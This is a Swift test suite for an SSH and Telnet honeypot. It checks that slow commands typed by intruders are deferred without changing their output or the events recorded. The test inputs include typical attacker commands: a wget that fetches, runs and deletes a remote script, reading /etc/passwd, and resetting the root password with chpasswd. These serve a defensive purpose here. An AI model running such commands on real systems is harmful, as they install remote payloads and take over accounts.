import Synchronization
import Testing
import ThreatModel

@testable import Honeypots

/// Commands that take longer than others should have to wait are put off, and come to the same.
@Suite("SSH work that is put off")
struct SSHPutOffTests {
    private static let allowance = 40_000

    @Test(
        "What people type is done at once",
        arguments: [
            "uname -a", "ls -la /", "cat /proc/cpuinfo | grep name | wc -l", "ps aux", "df -h; free -m; w",
            "cd /tmp; wget http://198.51.100.7/x.sh; chmod 777 x.sh; ./x.sh; rm -rf x.sh", "echo one && echo two",
            "for i in 1 2 3; do echo $i; done", "cat /etc/passwd", "ip addr", "crontab -l", "echo root:x | chpasswd",
        ])
    func atOnce(_ command: String) throws {
        var client = SSHTestClient(sharing: WorkSharing(atOnce: Self.allowance))
        try client.logIn()
        _ = try client.run(command)
        #expect(client.putOff == 0)
    }

    @Test(
        "What takes long is put off, and prints and is recorded as if it had not been",
        arguments: [
            "echo before; find / -name '*.conf' | wc -l; echo after >&2; exit 3",
            "i=0; while [ $i -lt 3000 ]; do i=$((i+1)); echo line $i; done > /tmp/lines; md5sum /tmp/lines",
            "cat /var/log/*.log | sort | uniq -c | tail -3",
        ])
    func comesToTheSame(_ command: String) throws {
        var patient = SSHTestClient()
        try patient.logIn()
        let expected = try patient.run(command)
        patient.disconnect()
        var client = SSHTestClient(sharing: WorkSharing(atOnce: Self.allowance))
        try client.logIn()
        let found = try client.run(command)
        client.disconnect()
        #expect(client.putOff > 0)
        #expect(found.output == expected.output)
        #expect(found.errors == expected.errors)
        #expect(found.status == expected.status)
        #expect(client.events.map(\.kind) == patient.events.map(\.kind))
    }

    @Test("What is put off rests now and then, and what is done at once never does")
    func rests() throws {
        let rests = Mutex(0)
        var client = SSHTestClient(
            sharing: WorkSharing(atOnce: Self.allowance) { rests.withLock { $0 += 1 } })
        try client.logIn()
        _ = try client.run("uname -a")
        #expect(rests.withLock(\.self) == 0)
        _ = try client.run("i=0; while [ $i -lt 3000 ]; do i=$((i+1)); done")
        #expect(client.putOff == 1)
        let worked = rests.withLock(\.self)
        #expect(worked > 2)
        _ = try client.run("uname -a")
        #expect(rests.withLock(\.self) == worked)
    }

    @Test("A terminal goes on behind what was put off, with what was typed meanwhile")
    func terminal() throws {
        var client = SSHTestClient(sharing: WorkSharing(atOnce: Self.allowance))
        try client.logIn()
        let channel = try client.openSession()
        try client.request(channel, "shell")
        var data = SSHWriter(.channelData)
        data.append(channel)
        data.append("find / -name '*.conf' | wc -l\necho be$((1+1))hind\n")
        try client.send(data.bytes)
        #expect(client.putOff > 0)
        let printed = client.messages.filter { $0.first == SSHMessage.channelData.rawValue }
            .map { String(decoding: $0.dropFirst(9), as: UTF8.self) }.joined()
        #expect(printed.contains("be2hind"))
        #expect(client.events.filter { $0.kind == .command }.count == 2)
    }

    @Test("Whoever leaves before it is done has it recorded all the same")
    func leaving() throws {
        var context = ReplaySettings().context(for: TelnetHoneypot.self)
        context.sharing = WorkSharing(atOnce: Self.allowance)
        var session = TerminalSession(context, user: Array("root".utf8), at: ReplayVisit.start)
        var output = HoneypotOutput()
        session.start(at: ReplayVisit.start, &output)
        session.received(Array("while true; do :; done\r".utf8), at: ReplayVisit.start, &output)
        #expect(output.take().last == .work)
        session.disconnected(at: ReplayVisit.start, &output)
        let commands = output.take().compactMap { action -> String? in
            if case .record(.command, let fields) = action { fields["command"] } else { nil }
        }
        #expect(commands == ["while true; do :; done"])
    }

    @Test("Exchanges over large numbers are put off")
    func keyExchange() throws {
        var context = ReplaySettings().context(for: SSHHoneypot.self)
        context.sharing = WorkSharing(atOnce: Self.allowance)
        var machine = SSHHoneypot(context: context)
        var output = HoneypotOutput()
        var random = SSHRandom(seed: 3)
        var plain = PacketProtection()
        machine.connected(at: ReplayVisit.start, &output)
        let proposal = SSHProposal(
            keyExchanges: ["diffie-hellman-group14-sha256"], hostKeys: ["ssh-ed25519"], ciphers: ["aes128-ctr"],
            macs: ["hmac-sha2-256"], compressions: ["none"])
        machine.received(Array("SSH-2.0-OpenSSH_9.2\r\n".utf8)[...], at: ReplayVisit.start, &output)
        machine.received(
            try plain.seal(proposal.message(cookie: random.octets(16)), using: &random)[...], at: ReplayVisit.start,
            &output)
        _ = output.take()
        var message = SSHWriter(.exchangeInit)
        message.append(string: [UInt8](repeating: 0x42, count: 256))
        machine.received(try plain.seal(message.bytes, using: &random)[...], at: ReplayVisit.start, &output)
        #expect(output.take() == [.work])
        machine.work(at: ReplayVisit.start, &output)
        guard case .send(let reply) = output.take().first else {
            Issue.record("no answer to the exchange")
            return
        }
        #expect(reply.count > 256)
    }
}
